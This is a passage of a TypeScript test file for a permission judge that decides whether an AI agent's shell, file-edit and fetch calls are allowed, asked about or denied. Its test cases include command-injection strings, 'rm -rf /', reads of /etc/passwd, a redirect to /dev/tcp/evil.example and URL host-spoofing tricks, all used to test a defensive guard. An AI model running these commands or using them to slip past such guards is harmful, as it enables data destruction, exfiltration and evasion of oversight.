import type { PolicyClass, PolicyRule } from '@baton/protocol';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { judge, type Circumstances, type Judgement } from './judge.ts';
import type { JudgedCall } from './judged-call.ts';
import { narrowestRules, newlyAllowed } from './narrowest-rules.ts';
import { shellParts } from './shell-parts.ts';

const ASK: Circumstances = { rules: [], mode: 'ask', worktree: false, sandboxed: true, tainted: false };
const allow = (fields: Omit<PolicyRule, 'decision'>): PolicyRule => ({ decision: 'allow', ...fields });
const deny = (fields: Omit<PolicyRule, 'decision'>): PolicyRule => ({ decision: 'deny', ...fields });
const ask = (fields: Omit<PolicyRule, 'decision'>): PolicyRule => ({ decision: 'ask', ...fields });
const call = (tool: string, policyClass: PolicyClass, given: Partial<JudgedCall> = {}): JudgedCall => ({
  tool,
  policyClass,
  paths: [],
  commands: [],
  scripts: [],
  urls: [],
  ...given,
});
const shell = (...commands: string[]): JudgedCall => call('run_shell', 'execute', { commands });
const edit = (...paths: string[]): JudgedCall => call('edit_file', 'write', { paths });
const fetching = (...urls: string[]): JudgedCall => call('fetch_url', 'network', { urls });
const decided = (given: JudgedCall, ...rules: PolicyRule[]): string => judge(given, { ...ASK, rules }).decision;
const read = call('read_file', 'read', { paths: ['a'] });
const talk = call('update_plan', 'converse');

describe('without rules', () => {
  test('looking and talking are free, everything else is asked', () => {
    expect([read, talk, edit('a'), shell('ls'), fetching('https://a.example')].map((each) => decided(each))).toEqual([
      'allow',
      'allow',
      'ask',
      'ask',
      'ask',
    ]);
    expect(judge(edit('src/a.ts'), ASK)).toEqual({ decision: 'ask', because: 'No rule allows "src/a.ts".', canBeAllowed: true });
  });

  test('even a command that only says something is asked', () => {
    expect(decided(shell('echo hello'))).toBe('ask');
    expect(decided(shell('true'))).toBe('ask');
  });

  test('a tool that is not known by its class is never free', () => {
    for (const policyClass of ['write', 'execute', 'network'] as const) expect(decided(call('mcp_anything', policyClass))).toBe('ask');
  });
});

describe('rules about paths', () => {
  test.each<[string, JudgedCall, PolicyRule[], string]>([
    ['a folder', edit('src/deep/a.ts'), [allow({ path: 'src/**' })], 'allow'],
    ['another folder', edit('test/a.ts'), [allow({ path: 'src/**' })], 'ask'],
    ['two paths, one of them allowed', edit('src/a.ts', 'test/a.ts'), [allow({ path: 'src/**' })], 'ask'],
    ['each by another rule', edit('src/a.ts', 'test/a.ts'), [allow({ path: 'src/**' }), allow({ path: 'test/**' })], 'allow'],
    ['steps that lead out again', edit('src/../secret'), [allow({ path: 'src/**' })], 'ask'],
    ['denied within allowed', edit('src/secret/a'), [allow({ path: 'src/**' }), deny({ path: 'src/secret' })], 'deny'],
    ['denied, in another order', edit('src/secret/a'), [deny({ path: 'src/secret' }), allow({ path: 'src/**' })], 'deny'],
    ['one of two is denied', edit('src/a', '.github/x'), [allow({ path: '**' }), deny({ path: '.github/**' })], 'deny'],
    ['asked within allowed', edit('src/a'), [allow({ path: 'src/**' }), ask({ path: 'src/a' })], 'ask'],
    ['for another tool', edit('src/a'), [allow({ tool: 'write_file', path: 'src/**' })], 'ask'],
    ['for tools by a glob', edit('src/a'), [allow({ tool: '*_file', path: 'src/**' })], 'allow'],
    ['for a class', edit('src/a'), [allow({ class: 'write' })], 'allow'],
    ['for another class', edit('src/a'), [allow({ class: 'execute', path: '**' })], 'ask'],
    ['reading can be denied', read, [deny({ path: 'a' })], 'deny'],
    ['reading can be asked', read, [ask({ class: 'read' })], 'ask'],
    ['a rule about nothing fits nothing', edit('a'), [allow({})], 'ask'],
    ['a rule about commands says nothing about paths', edit('a'), [allow({ command: 'edit' })], 'ask'],
    ['only the one at the root', edit('src/README.md'), [allow({ path: '/README.md' })], 'ask'],
  ])('%s', (_, given, rules, wanted) => {
    expect(decided(given, ...rules)).toBe(wanted);
  });
});

describe('rules about hosts', () => {
  test.each<[string, string, PolicyRule[], string]>([
    ['a host', 'https://a.example/x', [allow({ host: 'a.example' })], 'allow'],
    ['a host in other letters, with a dot at its end', 'https://A.EXAMPLE./x', [allow({ host: 'a.example' })], 'allow'],
    ['below a host', 'https://b.a.example', [allow({ host: '*.a.example' })], 'allow'],
    ['the host itself is not below it', 'https://a.example', [allow({ host: '*.a.example' })], 'ask'],
    ['a host that merely ends so', 'https://eva.example', [allow({ host: '*.a.example' }), allow({ host: 'a.example' })], 'ask'],
    ['a name in front of the real host', 'https://a.example@evil.example', [allow({ host: 'a.example' })], 'ask'],
    ['a host behind the real one', 'https://evil.example/a.example', [allow({ host: 'a.example' })], 'ask'],
    ['a backslash', 'https://evil.example\\@a.example', [allow({ host: 'a.example' })], 'ask'],
    ['no address', 'a.example', [allow({ host: 'a.example' })], 'ask'],
    ['denied below, in other letters', 'https://X.Evil.example', [allow({ tool: 'fetch_url' }), deny({ host: '*.evil.example' })], 'deny'],
    ['letters that look the same', 'https://\u0430.example', [allow({ host: 'a.example' })], 'ask'],
    ['another way to write a number', 'http://0x7f.1/', [allow({ tool: 'fetch_url' }), deny({ host: '127.0.0.1' })], 'deny'],
  ])('%s', (_, url, rules, wanted) => {
    expect(decided(fetching(url), ...rules)).toBe(wanted);
  });
});

describe('rules about commands', () => {
  const npm = allow({ command: 'npm test' });
  test.each<[string, PolicyRule[], string]>([
    ['npm test', [npm], 'allow'],
    ['npm test -- --watch', [npm], 'allow'],
    ['npm  "test"', [npm], 'allow'],
    ["n''pm t\\est", [npm], 'allow'],
    ['npm testing', [npm], 'ask'],
    ['npm', [npm], 'ask'],
    ['./npm test', [npm], 'ask'],
    ['/tmp/npm test', [npm], 'ask'],
    ['npm test extra', [allow({ command: 'npm test', exact: true })], 'ask'],
    ['npm test', [allow({ command: 'npm test', exact: true })], 'allow'],
    ['npm test && npm test', [npm], 'allow'],
    ['npm test && echo done', [npm], 'allow'],
    ['npm test || exit 1', [npm], 'allow'],
    ['npm test && rm -rf /', [npm], 'ask'],
    ['npm test; rm x', [npm], 'ask'],
    ['npm test & rm x', [npm], 'ask'],
    ['npm test\nrm x', [npm], 'ask'],
    ['npm test | tee log', [npm], 'ask'],
    ['npm test | head -n 5', [npm, allow({ command: 'head' })], 'allow'],
    ['npm test 2>&1', [npm], 'allow'],
    ['npm test > /dev/null 2>&1', [npm], 'allow'],
    ['npm test > log.txt', [npm], 'ask'],
    ['npm test > log.txt', [npm, allow({ path: '*.txt' })], 'allow'],
    ['npm test > ../log.txt', [npm, allow({ path: '**' })], 'ask'],
    ['npm test > /etc/passwd', [npm, allow({ path: '**' })], 'ask'],
    ['npm test > ~/x', [npm, allow({ path: '**' })], 'ask'],
    ['npm test > "$X"', [npm, allow({ path: '**' })], 'ask'],
    ['npm test < input.txt', [npm], 'allow'],
    ['npm test < /etc/passwd', [npm], 'ask'],
    ['npm test < secret/x', [npm, deny({ path: 'secret' })], 'deny'],
    ['npm test "$(rm x)"', [npm], 'ask'],
    ['npm test `rm x`', [npm], 'ask'],
    ['npm test "$(git status)"', [npm, allow({ command: 'git status' })], 'allow'],
    ['npm test <(rm x)', [npm], 'ask'],
    ['npm test <<< "$(rm x)"', [npm], 'ask'],
    ['npm test <<EOF\n$(rm x)\nEOF', [npm], 'ask'],
    ["npm test <<'EOF'\n$(rm x)\nEOF", [npm], 'allow'],
    ['npm test ${x:-$(rm x)}', [npm], 'ask'],
    ['npm test $((1 + $(rm x)))', [npm], 'ask'],
    ['npm $COMMAND', [npm], 'ask'],
    ['$X test', [npm], 'ask'],
    ['X=1 npm test', [npm], 'ask'],
    ['X=1 npm test', [allow({ command: 'X=1 npm test' })], 'allow'],
    ['X=2 npm test', [allow({ command: 'X=1 npm test' })], 'ask'],
    ['X=$(rm x) npm test', [allow({ command: 'X=1 npm test' })], 'ask'],
    ['PATH=/tmp; npm test', [npm], 'ask'],
    ['x=1; npm test "$x"', [npm], 'allow'],
    ['for f in a b; do npm test "$f"; done', [npm], 'allow'],
    ['for f in $(rm x); do npm test; done', [npm], 'ask'],
    ['for PATH in /tmp; do npm test; done', [npm], 'ask'],
    ['if npm test; then rm x; fi', [npm], 'ask'],
    ['if npm test; then npm test; else exit 1; fi', [npm], 'allow'],
    ['while npm test; do sleep 1; done', [npm], 'allow'],
    ['(npm test)', [npm], 'allow'],
    ['{ npm test; }', [npm], 'allow'],
    ['! npm test', [npm], 'allow'],
    ['npm() { rm x; }; npm test', [npm], 'ask'],
    ['alias npm="rm x"; npm test', [npm], 'ask'],
    ['timeout 10 npm test', [npm], 'allow'],
    ['timeout -k 5 10 npm test', [npm], 'allow'],
    ['timeout 10 rm x', [npm], 'ask'],
    ['timeout 10 rm x', [allow({ command: 'timeout' })], 'ask'],
    ['timeout 10 rm x', [allow({ command: 'timeout 10 rm x', exact: true })], 'allow'],
    ['nice -n 5 npm test', [npm], 'allow'],
    ['nohup npm test', [npm], 'allow'],
    ['env npm test', [npm], 'allow'],
    ['env -i npm test', [npm], 'allow'],
    ['env X=1 npm test', [npm], 'ask'],
    ['env -S "npm test; rm x"', [npm], 'ask'],
    ['command npm test', [npm], 'allow'],
    ['command -v npm && npm test', [npm], 'allow'],
    ['exec npm test', [npm], 'allow'],
    ['nohup nice timeout 5 env npm test', [npm], 'allow'],
    ['sudo npm test', [npm], 'ask'],
    ['sudo npm test', [npm, allow({ command: 'sudo' })], 'ask'],
    ['sudo rm x', [deny({ command: 'rm' })], 'deny'],
    ['sh -c "npm test"', [npm], 'allow'],
    ['bash -euc "npm test && npm test"', [npm], 'allow'],
    ['sh -c "npm test; rm x"', [npm], 'ask'],
    ['sh -c "$X"', [npm, allow({ command: 'sh' })], 'ask'],
    ['sh', [allow({ command: 'sh' })], 'ask'],
    ['echo "npm test" | sh', [npm, allow({ command: 'sh' })], 'ask'],
    ['sh build.sh', [allow({ command: 'sh build.sh' })], 'allow'],
    ['eval "npm test"', [npm], 'ask'],
    ['source x.sh && npm test', [npm], 'ask'],
    ['trap "rm x" EXIT; npm test', [npm], 'ask'],
    ['echo a | xargs npm test', [npm], 'allow'],
    ['echo a | xargs rm', [npm], 'ask'],
    ['echo a | xargs -n 1 sh -c "rm x"', [npm], 'ask'],
    ['find . -name "*.ts"', [allow({ command: 'find' })], 'allow'],
    ['find . -exec rm {} \\;', [allow({ command: 'find' })], 'ask'],
    ['find . -exec npm test {} +', [npm], 'allow'],
    ['find . -delete', [allow({ command: 'find' })], 'ask'],
    ['find . -fprint /etc/x', [allow({ command: 'find' })], 'ask'],
    ['set -euo pipefail; npm test', [npm], 'allow'],
    ['cd deep && npm test', [npm], 'ask'],
    ['cd deep && npm test', [npm, allow({ command: 'cd' })], 'allow'],
    ['npm test # and rm x', [npm], 'allow'],
    ['[ -f a ] && npm test', [npm], 'allow'],
    ['[[ -f $(rm x) ]] && npm test', [npm], 'ask'],
    ['case x in *) rm x;; esac', [npm], 'ask'],
    ['coproc npm test', [npm], 'ask'],
    ['npm test "$((1 + 2))" "${x:1:2}" "${x[0]}"', [npm], 'allow'],
    ["x='a[$(rm y)]'; npm test $((x))", [npm], 'ask'],
    ["x='a[$(rm y)]'; npm test ${y[x]}", [npm], 'ask'],
    ["x='a[$(rm y)]'; npm test ${y:x}", [npm], 'ask'],
    ["x='a[$(rm y)]'; npm test ${!x}", [npm], 'ask'],
    ["x='$(rm y)'; npm test ${x@P}", [npm], 'ask'],
    ["x='a[$(rm y)]'; [[ $x -eq 1 ]] && npm test", [npm], 'ask'],
    ["[[ -v 'a[$(rm y)]' ]] && npm test", [npm], 'ask'],
    ["[ -v 'a[$(rm y)]' ] && npm test", [npm], 'ask'],
    ["test -v 'a[$(rm y)]' && npm test", [npm], 'ask'],
    ["x='-v a[$(rm y)]'; [ $x ] && npm test", [npm], 'ask'],
    ['wait -p PATH; npm test', [npm], 'ask'],
    ["a['$(rm y)']=1; npm test", [npm], 'ask'],
    ["npm test {a['$(rm y)']}>&1", [npm], 'ask'],
    ["npm test >&'$(rm y)'", [npm, allow({ path: '**' })], 'ask'],
    ['npm test >&log', [npm, allow({ path: '**' })], 'allow'],
    ["x='a[$(rm y)]'; npm test $[x]", [npm], 'ask'],
    ['npm test ${PATH:=/tmp}', [npm], 'ask'],
    ['npm test ${x:=/tmp}', [npm], 'allow'],
    ['cat <<EOF | npm test\n$((x))\nEOF', [npm, allow({ command: 'cat' })], 'ask'],
    ['echo a | xargs --replace rm npm test', [npm], 'ask'],
    ['echo a | xargs --max-lines rm npm test', [npm], 'ask'],
    ['cd / && npm test > build/x', [npm, allow({ command: 'cd' }), allow({ path: 'build/**' })], 'ask'],
    ['npm test > build/x', [npm, allow({ command: 'cd' }), allow({ path: 'build/**' })], 'allow'],
    // Lists that end in the middle of a word.
    ['x=(a)[b]$(rm y)c; npm test', [npm], 'ask'],
    ['x=([a]=1)b`rm y`; npm test', [npm], 'ask'],
    ['x=(a)b npm test', [npm], 'ask'],
    ['declare x=(a)b$(rm y)c; npm test', [npm, allow({ command: 'declare' })], 'ask'],
    // Indexes in lists.
    ["x=(['a[$(rm y)]']=1); npm test", [npm], 'ask'],
    ["a='b[$(rm y)]'; x=([a]=1); npm test", [npm], 'ask'],
    ['x=([$a]=1); npm test', [npm], 'ask'],
    ['y+=(1\n[a]=1); npm test', [npm], 'ask'],
    ['x=({[a]=1,b}); npm test', [npm], 'ask'],
    ['declare -A x=([a]=1); npm test', [npm], 'ask'],
    ['local x=([a]=1); npm test', [npm], 'ask'],
    ['readonly x=([a]=1); npm test', [npm], 'ask'],
    ['export x=([a]=1); npm test', [npm], 'ask'],
    ['x=(a b "$y"); npm test "${x[@]}"', [npm], 'allow'],
    // What xargs puts in.
    ['echo ";rm y" | xargs -I X sh -c "npm test X"', [npm], 'ask'],
    ['echo push | xargs -I test npm test', [npm], 'ask'],
    ['echo rm | xargs -I npm npm test', [npm], 'ask'],
    ['echo rm | xargs -I{} sh -c "npm test; {}"', [npm], 'ask'],
    ['echo rm | xargs -I{} {} npm test', [npm], 'ask'],
    ['echo rm | xargs -I a -I X sh -c "npm test; X a"', [npm], 'ask'],
    ['echo rm | xargs -I "$x" sh -c "npm test; X"', [npm], 'ask'],
    ['echo rm | xargs -i sh -c "npm test {}"', [npm], 'ask'],
    ['echo rm | xargs --replace=R sh -c "npm test R"', [npm], 'ask'],
    ['echo rm | xargs --replace sh -c "npm test {}"', [npm], 'ask'],
    ['echo rm | xargs -J R npm R', [npm], 'ask'],
    ['echo a | xargs -I X npm test X', [npm], 'allow'],
    ['echo a | xargs -I X env sh -c "rm X"', [deny({ command: 'rm' }), allow({ tool: '*' })], 'deny'],
    ['find . -exec sh -c "rm {}" \\;', [deny({ command: 'rm' }), allow({ tool: '*' })], 'deny'],
    ['echo a | xargs npm test', [allow({ command: 'npm test', exact: true })], 'ask'],
    ['echo a | xargs -I X npm test', [allow({ command: 'npm test', exact: true })], 'ask'],
    // Options of what starts another.
    ["x='1 5 rm y'; timeout -k $x npm test", [npm], 'ask'],
    ["x='5 rm y'; timeout -- $x npm test", [npm], 'ask'],
    ['timeout -- 5 npm test', [npm], 'allow'],
    ['timeout 5 -v npm test', [npm], 'ask'],
    ['exec -a rm npm test', [npm], 'ask'],
    // Programs that are called like others.
    ['./timeout 5 npm test', [npm], 'ask'],
    ['./sh -c "npm test"', [npm], 'ask'],
    ['./printf x; npm test', [npm], 'ask'],
    ['./set -e; npm test', [npm], 'ask'],
    ['/tmp/env npm test', [npm], 'ask'],
    ['TIMEOUT 5 npm test', [npm], 'ask'],
    ['/usr/bin/timeout 5 npm test', [npm], 'allow'],
    ['./timeout 5 rm x', [deny({ command: 'rm' }), allow({ tool: '*' })], 'deny'],
    // What prints, waits and reads, and sets variables by the way.
    ["printf 'x%n' PATH; npm test", [npm], 'ask'],
    ["printf '%5.2hn' PATH; npm test", [npm], 'ask'],
    ["printf '%%%n' PATH; npm test", [npm], 'ask'],
    ["printf -- '%n' PATH; npm test", [npm], 'ask'],
    ['printf "$x" PATH; npm test', [npm], 'ask'],
    ['printf -vPATH x; npm test', [npm], 'ask'],
    ['printf; npm test', [npm], 'ask'],
    ["printf '%%n %-5s|%.2f\\n' PATH 1; npm test", [npm], 'allow'],
    ["printf -- '%s\\n' a; npm test", [npm], 'allow'],
    ['npm test & wait -np PATH; npm test', [npm], 'ask'],
    ['read PATH; npm test', [npm, allow({ command: 'read' })], 'ask'],
    ['read -aPATH; npm test', [npm, allow({ command: 'read' })], 'ask'],
    ["read 'a[$(rm y)]'; npm test", [npm, allow({ command: 'read' })], 'ask'],
    ['read -r line; npm test "$line"', [npm, allow({ command: 'read' })], 'allow'],
    ["let 'a[$(rm y)]=1'", [allow({ command: 'let' })], 'ask'],
    ['npm_config_script_shell=./x; npm test', [npm], 'ask'],
    // Shells that read a script in another way.
    ["zsh -c 'npm test'", [npm], 'ask'],
    ["ksh -c 'npm test'", [npm], 'ask'],
    ["dash -c 'npm test'", [npm], 'allow'],
    ["zsh -c 'rm x'", [deny({ command: 'rm' }), allow({ tool: '*' })], 'deny'],
    ["bash -c -e 'rm x'", [allow({ command: '-e' })], 'ask'],
    ["sh -c '[[ a || npm test ]]; npm test'", [npm], 'ask'],
    ["sh -c 'npm test &>/dev/null rm y'", [npm], 'ask'],
    ["bash -c 'npm test &>/dev/null x'", [npm], 'allow'],
    ["sh -c 'npm test > /dev/null 2>&1'", [npm], 'allow'],
    // Where find's command ends, and where it runs.
    ['find . -maxdepth 0 -exec rm -r build + src \\;', [allow({ command: 'rm -r build', exact: true })], 'ask'],
    ['find . -exec npm test \\;', [allow({ command: 'npm test', exact: true })], 'allow'],
    ['find . -exec npm test {} \\;', [allow({ command: 'npm test', exact: true })], 'ask'],
    ['find . -exec npm test {} +', [allow({ command: 'npm test', exact: true })], 'ask'],
    ['find . -exec npm test {} + -exec rm x \\;', [npm], 'ask'],
    ['find . -exec npm test {} x +', [npm], 'ask'],
    ['find / -execdir npm test \\;', [npm], 'ask'],
    ['find . -ok npm test \\;', [npm], 'ask'],
    ['find . -okdir npm test \\;', [npm], 'ask'],
    // What a word that is not known may become.
    ['x=push; git $x', [allow({ command: 'git' }), deny({ command: 'git push' })], 'ask'],
    ['git pus?', [allow({ command: 'git' }), deny({ command: 'git push' })], 'ask'],
    ['git -C . push', [allow({ command: 'git' }), deny({ command: 'git push' })], 'ask'],
    ['git -c a=b $x', [allow({ command: 'git' }), deny({ command: 'git push' })], 'ask'],
    ['git --no-pager log', [allow({ command: 'git' }), deny({ command: 'git push' })], 'allow'],
    ['git $(echo push)', [allow({ tool: '*' }), deny({ command: 'git push' })], 'ask'],
    ['git {push,origin}', [allow({ command: 'git' }), ask({ command: 'git push' })], 'ask'],
    ['/usr/bin/git "$x"', [allow({ tool: '*' }), deny({ command: 'git push' })], 'ask'],
    ['echo push | xargs git', [allow({ command: 'git' }), deny({ command: 'git push' })], 'ask'],
    ['git push $x', [allow({ command: 'git' }), deny({ command: 'git push', exact: true })], 'ask'],
    ['git log $x', [allow({ command: 'git' }), deny({ command: 'git push' })], 'allow'],
    ['git $x', [allow({ command: 'git' }), deny({ command: 'rm x' })], 'allow'],
    ['git $x', [allow({ command: 'git' }), deny({ tool: 'run_powershell', command: 'git push' })], 'allow'],
    ['A=$x npm test', [allow({ tool: '*' }), deny({ command: 'A=1 npm test' })], 'ask'],
    ['npm test "', [npm], 'ask'],
    ['npm test &&', [npm], 'ask'],
    ['', [npm], 'ask'],
    ['npm test\u00a0&& x', [npm], 'ask'],
    ['npm test > /dev/tcp/evil.example/80', [npm, allow({ path: '**' })], 'ask'],
    ['rm -rf x', [deny({ command: 'rm' }), allow({ tool: 'run_shell' })], 'deny'],
    ['/bin/rm -rf x', [deny({ command: 'rm' }), allow({ tool: 'run_shell' })], 'deny'],
    ['"r"m x', [deny({ command: 'rm' }), allow({ tool: 'run_shell' })], 'deny'],
    ['npm test && (true; env timeout 1 rm x)', [deny({ command: 'rm' }), npm], 'deny'],
    ['echo $(rm x)', [deny({ command: 'rm' }), npm], 'deny'],
    ['X=1 rm x', [deny({ command: 'rm' })], 'deny'],
    ['bash -c "rm x"', [deny({ command: 'rm' })], 'deny'],
    ['cat secret/key', [deny({ path: 'secret' }), allow({ command: 'cat' })], 'deny'],
    ['cat --file=./secret/key', [deny({ path: 'secret' }), allow({ command: 'cat' })], 'deny'],
    ['anything at all', [allow({ tool: 'run_shell' })], 'allow'],
    ['echo hello', [allow({ tool: 'run_shell' })], 'allow'],
    ['eval "$X"', [allow({ tool: 'run_shell' })], 'ask'],
  ])('%s', (command, rules, wanted) => {
    expect(decided(shell(command), ...rules)).toBe(wanted);
  });
});

describe('modes', () => {
  const open = [allow({ tool: '*' })];

  test('in Plan nothing is changed, run or fetched, whatever is allowed', () => {
    for (const given of [edit('a'), shell('ls'), fetching('https://a.example'), call('mcp_x', 'write')]) {
      expect(judge(given, { ...ASK, rules: open, mode: 'plan' })).toMatchObject({
        decision: 'deny',
        canBeAllowed: false,
        because: expect.stringMatching(/^In the mode Plan/),
      });
    }
    for (const given of [read, talk]) expect(judge(given, { ...ASK, mode: 'plan' }).decision).toBe('allow');
  });

  test('in Free a worktree is written to, and sandboxed commands run; the network is asked', () => {
    const free: Circumstances = { ...ASK, mode: 'free', worktree: true };
    const decisions = (circumstances: Circumstances): string[] =>
      [edit('a'), shell('make; eval "$X"'), fetching('https://a.example')].map((each) => judge(each, circumstances).decision);
    expect(decisions(free)).toEqual(['allow', 'allow', 'ask']);
    expect(decisions({ ...free, worktree: false })).toEqual(['ask', 'ask', 'ask']);
    expect(decisions({ ...free, sandboxed: false })).toEqual(['allow', 'ask', 'ask']);
    expect(decisions({ ...free, tainted: true })).toEqual(['allow', 'ask', 'ask']);
    expect(decisions({ ...free, rules: [deny({ command: 'rm' })] })).toEqual(['allow', 'ask', 'ask']);
    const reaching = { ...shell('npm ci'), network: true };
    expect(judge(reaching, free)).toEqual({
      decision: 'ask',
      because: '"run_shell" is to reach hosts from the worktree.',
      canBeAllowed: true,
    });
    expect(judge(reaching, { ...free, rules: [allow({ command: 'npm ci' })] }).decision).toBe('allow');
    expect(judge(shell('rm x'), { ...free, rules: [deny({ command: 'rm' })] }).decision).toBe('deny');
    expect(judge(edit('a'), { ...free, rules: [ask({ path: 'a' })] }).decision).toBe('ask');
  });

  test.each<[string, JudgedCall, Partial<Circumstances>, string]>([
    ['a file in the worktree', edit('src/a.ts'), {}, 'allow'],
    ['a file by a whole path', edit('/work/tree/src/a.ts'), {}, 'allow'],
    ['a file beside the worktree', edit('../other/a.ts'), {}, 'ask'],
    ['a file elsewhere', edit('/etc/hosts'), {}, 'ask'],
    ['a file whose folder begins the same', edit('/work/tree-two/a.ts'), {}, 'ask'],
    ['one of two files lies elsewhere', edit('a.ts', '/work/b.ts'), {}, 'ask'],
    ['a command', shell('npm test'), {}, 'allow'],
    ['a program by its whole path', shell('/usr/bin/make -j4'), {}, 'allow'],
    ['a program of the folder around', shell('../tool x'), {}, 'ask'],
    ['what cannot be told', shell('eval "$X"'), {}, 'allow'],
    ['a word that is not known', shell('git $x'), {}, 'allow'],
    ['a word that may become what is denied', shell('x=push; git $x'), { rules: [deny({ command: 'git push' })] }, 'ask'],
    ['a word that may become what is asked about', shell('git pus?'), { rules: [ask({ command: 'git push' })] }, 'ask'],
    ['a word that cannot become what is denied', shell('git log "$x"'), { rules: [deny({ command: 'git push' })] }, 'allow'],
    ['a script of another language', call('run_powershell', 'execute', { scripts: ['Get-Item x'] }), {}, 'allow'],
    ['writing into a file of the worktree', shell('npm test > out.txt 2>&1'), {}, 'allow'],
    ['writing nowhere', shell('npm test > /dev/null'), {}, 'allow'],
    ['writing elsewhere', shell('npm test > /var/out.txt'), {}, 'ask'],
    ['writing into the folder around', shell('npm test >> ../out.txt'), {}, 'ask'],
    ['naming a file elsewhere', shell('cat /etc/passwd'), {}, 'ask'],
    ['naming the folder around', shell('cd ..; make'), {}, 'ask'],
    ['steps that come back', shell('cat src/../a.ts'), {}, 'allow'],
    ['elsewhere behind an equals sign', shell('make DESTDIR=/opt/x'), {}, 'ask'],
    ['elsewhere in a substitution', shell('echo "$(cat /etc/passwd)"'), {}, 'ask'],
    ['elsewhere in a script in a script', shell("sh -c 'rm -r /srv/x'"), {}, 'ask'],
    ['elsewhere, where a rule allows the command', shell('cat /etc/hosts'), { rules: [allow({ command: 'cat' })] }, 'allow'],
    ['an address', fetching('https://a.example'), {}, 'ask'],
    ['a tool of a server', call('mcp_x', 'network'), {}, 'ask'],
    ['looking', read, {}, 'allow'],
    ['a file, after strangers were read', edit('a.ts'), { tainted: true }, 'allow'],
    ['a command, after strangers were read', shell('npm test'), { tainted: true }, 'ask'],
    ['a command without a sandbox', shell('npm test'), { sandboxed: false }, 'ask'],
    ['a file, without a worktree', edit('a.ts'), { worktree: false }, 'ask'],
    ['a file that a rule asks about', edit('a.ts'), { rules: [ask({ path: 'a.ts' })] }, 'ask'],
    ['a file that a rule denies', edit('a.ts'), { rules: [deny({ path: '*.ts' })] }, 'deny'],
    ['a command that a rule denies, elsewhere', shell('rm -r /srv/x'), { rules: [deny({ command: 'rm' })] }, 'deny'],
  ])('in Free: %s', (_, given, circumstances, wanted) => {
    const free: Circumstances = { ...ASK, mode: 'free', worktree: true, ...circumstances };
    expect(judge({ ...given, root: '/work/tree' }, free).decision).toBe(wanted);
  });

  test('what leads out of the worktree is named', () => {
    const free: Circumstances = { ...ASK, mode: 'free', worktree: true };
    expect(judge({ ...shell('cat /etc/hosts'), root: '/work/tree' }, free)).toEqual({
      decision: 'ask',
      because: '"/etc/hosts" lies outside of the worktree.',
      canBeAllowed: true,
    });
  });

  test('without a sandbox no command runs without being asked about', () => {
    expect(judge(shell('ls'), { ...ASK, rules: open, sandboxed: false })).toMatchObject({
      decision: 'ask',
      because: expect.stringContaining('no sandbox'),
    });
  });

  test('content from strangers makes commands and the network asked again, and leaves writes alone', () => {
    const tainted = { ...ASK, rules: open, tainted: true };
    expect([edit('a'), shell('ls'), fetching('https://a.example'), read].map((each) => judge(each, tainted).decision)).toEqual([
      'allow',
      'ask',
      'ask',
      'allow',
    ]);
  });
});

const word = fc.constantFrom(
  'npm',
  'test',
  'rm',
  '-rf',
  'x',
  '$X',
  '$(rm x)',
  '"a b"',
  '`id`',
  '|',
  '&&',
  ';',
  '>',
  'out',
  '<',
  'sudo',
  'env',
  'A=1',
  'sh',
  '-c',
  "'rm y'",
  '(',
  ')',
  '\n',
  '{',
  '}',
  'if',
  'then',
  'fi',
  '<<<',
  '*',
  '~',
  '&',
  '[[',
  ']]',
  'timeout',
  '5',
  'xargs',
  '""',
);
const command = fc.oneof(
  { weight: 4, arbitrary: fc.array(word, { maxLength: 10 }).map((words) => words.join(' ')) },
  { weight: 1, arbitrary: fc.string() },
);
const path = fc.constantFrom('src/a', 'src/deep/b', 'c', '../d', 'src/../c', '/etc/e', '.github/f', 'a*b');
const url = fc.constantFrom('https://a.example', 'https://b.a.example/x', 'http://127.1', 'nothing', 'https://x@c.example');
const rule: fc.Arbitrary<PolicyRule> = fc
  .record({
    decision: fc.constantFrom('allow', 'ask', 'deny'),
    about: fc.oneof(
      fc.constantFrom({ path: '**' }, { path: 'src/**' }, { path: '/c' }).map((each): Omit<PolicyRule, 'decision'> => each),
      fc.constantFrom({ command: 'npm' }, { command: 'npm test' }, { command: 'rm' }, { command: 'env', exact: true }),
      fc.constantFrom({ host: 'a.example' }, { host: '*.a.example' }),
      fc.constantFrom({ tool: '*' }, { tool: 'run_shell' }, { class: 'write' as const }),
    ),
  })
  .map(({ decision, about }): PolicyRule => ({ decision, ...about }));
const anyCall = fc.oneof(
  command.map((each) => shell(each)),
  fc.array(path, { minLength: 1, maxLength: 3 }).map((each) => edit(...each)),
  url.map((each) => fetching(each)),
  fc.constantFrom(read, talk),
);
const anyCircumstances = fc.record<Circumstances>({
  rules: fc.array(rule, { maxLength: 6 }),
  mode: fc.constantFrom('plan', 'ask', 'free'),
  worktree: fc.boolean(),
  sandboxed: fc.boolean(),
  tainted: fc.boolean(),
});
const STRICTNESS = ['allow', 'ask', 'deny'];
const strictness = (judgement: Judgement): number => STRICTNESS.indexOf(judgement.decision);

describe('whatever the call and the rules', () => {
  const always = (property: (given: JudgedCall, circumstances: Circumstances) => void): void => {
    fc.assert(fc.property(anyCall, anyCircumstances, property), { numRuns: 3000 });
  };

  test('the order of rules does not matter', () => {
    always((given, circumstances) => {
      const reversed = { ...circumstances, rules: [...circumstances.rules].reverse() };
      expect(judge(given, reversed).decision).toBe(judge(given, circumstances).decision);
    });
  });

  test('a rule that denies never makes anything easier, one that allows nothing harder', () => {
    always((given, circumstances) => {
      const now = strictness(judge(given, circumstances));
      const denying = circumstances.rules.map((each): PolicyRule => ({ ...each, decision: 'deny' }));
      const allowing = circumstances.rules.map((each): PolicyRule => ({ ...each, decision: 'allow' }));
      expect(strictness(judge(given, { ...circumstances, rules: [...circumstances.rules, ...denying] }))).toBeGreaterThanOrEqual(now);
      expect(strictness(judge(given, { ...circumstances, rules: [...circumstances.rules, ...allowing] }))).toBeLessThanOrEqual(now);
    });
  });

  test('taint, the lack of a sandbox and the mode Plan only tighten', () => {
    always((given, circumstances) => {
      const now = strictness(judge(given, circumstances));
      for (const tighter of [{ tainted: true }, { sandboxed: false }, { worktree: false }, { mode: 'plan' as const }]) {
        expect(strictness(judge(given, { ...circumstances, ...tighter }))).toBeGreaterThanOrEqual(now);
      }
    });
  });

  test('without rules that allow, nothing that changes, runs or reaches out is allowed but in Free', () => {
    always((given, circumstances) => {
      const rules = circumstances.rules.filter((each) => each.decision !== 'allow');
      fc.pre(!['read', 'converse'].includes(given.policyClass) && circumstances.mode !== 'free');
      expect(judge(given, { ...circumstances, rules }).decision).not.toBe('allow');
    });
  });

  test('more that is done is never judged more mildly', () => {
    always((given, circumstances) => {
      const more: JudgedCall = {
        ...given,
